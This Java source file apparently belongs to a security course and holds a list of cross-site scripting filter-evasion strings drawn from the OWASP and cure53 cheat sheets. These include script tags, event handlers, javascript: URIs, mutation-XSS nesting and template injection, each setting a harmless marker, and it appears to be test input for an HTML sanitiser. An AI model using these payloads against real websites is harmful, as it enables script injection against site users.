package org.thongthin.course;

import java.util.List;

/** Ways to bring a script into a page, as the OWASP filter evasion cheat sheet and the cure53 lists know them. */
public final class Vectors {

    public static final List<String> ALL = List.of(
            "<script>window.ran=1</script>",
            "<ScRiPt>window.ran=1</sCrIpT>",
            "<scr<script>ipt>window.ran=1</scr</script>ipt>",
            "<script src=//example.org/x.js></script>",
            "<img src=x onerror=window.ran=1>",
            "<img src=x onerror=\"&#119;indow.ran=1\">",
            "<img src='assets/a.png' alt='x' onload='window.ran=1'>",
            "<img src=`x` onerror=`window.ran=1`>",
            "<img alt='\"><script>window.ran=1</script>' src='assets/a.png'>",
            "<img src=\"x` `<script>window.ran=1</script>\"` `>",
            "<svg onload=window.ran=1>",
            "<svg><script>window.ran=1</script></svg>",
            "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
            "<svg><a xlink:href='javascript:window.ran=1'><text>x</text></a></svg>",
            "<svg><foreignObject><img src=x onerror=window.ran=1></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></math>",
            "<iframe src='javascript:parent.ran=1'></iframe>",
            "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
            "<object data='data:text/html,<script>window.ran=1</script>'></object>",
            "<embed src='javascript:window.ran=1'>",
            "<form action='javascript:window.ran=1'><button>x</button></form>",
            "<button formaction='javascript:window.ran=1'>x</button>",
            "<input autofocus onfocus=window.ran=1>",
            "<details open ontoggle=window.ran=1><summary>x</summary></details>",
            "<video><source onerror=window.ran=1></video>",
            "<audio src=x onerror=window.ran=1></audio>",
            "<body onload=window.ran=1>",
            "<p onclick=window.ran=1 onmouseover=window.ran=1 tabindex=0 onfocus=window.ran=1 autofocus>x</p>",
            "<p style='animation:x' onanimationstart=window.ran=1>x</p>",
            "<a href='javascript:window.ran=1'>x</a>",
            "<a href='JaVaScRiPt:window.ran=1'>x</a>",
            "<a href='java\tscript:window.ran=1'>x</a>",
            "<a href='&#106;avascript&colon;window.ran=1'>x</a>",
            "<a href='\u0001javascript:window.ran=1'>x</a>",
            "<a href='vbscript:msgbox(1)'>x</a>",
            "<a href='data:text/html,<script>opener.ran=1</script>'>x</a>",
            "<a href='//example.org/'>x</a>",
            "<base href='javascript:window.ran=1//'>",
            "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
            "<link rel=stylesheet href='javascript:window.ran=1'>",
            "<style>@import 'javascript:window.ran=1';</style>",
            "<style><img src='</style><img src=x onerror=window.ran=1>'>",
            "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
            "<textarea></textarea><xmp><script>window.ran=1</script></xmp>",
            "<template><script>window.ran=1</script></template>",
            "<marquee onstart=window.ran=1>x</marquee>",
            "<!--><img src=x onerror=window.ran=1>-->",
            "<![CDATA[<script>window.ran=1</script>]]>",
            "<<script>window.ran=1//<</script>",
            "<b/onclick=window.ran=1//>x</b>",
            "<div class='t-callout' id='main' role='button'>x</div>",
            "{{constructor.constructor('window.ran=1')()}} #{x} ${x}",
            "</div></article></main><script>window.ran=1</script>");

    private Vectors() {}
}
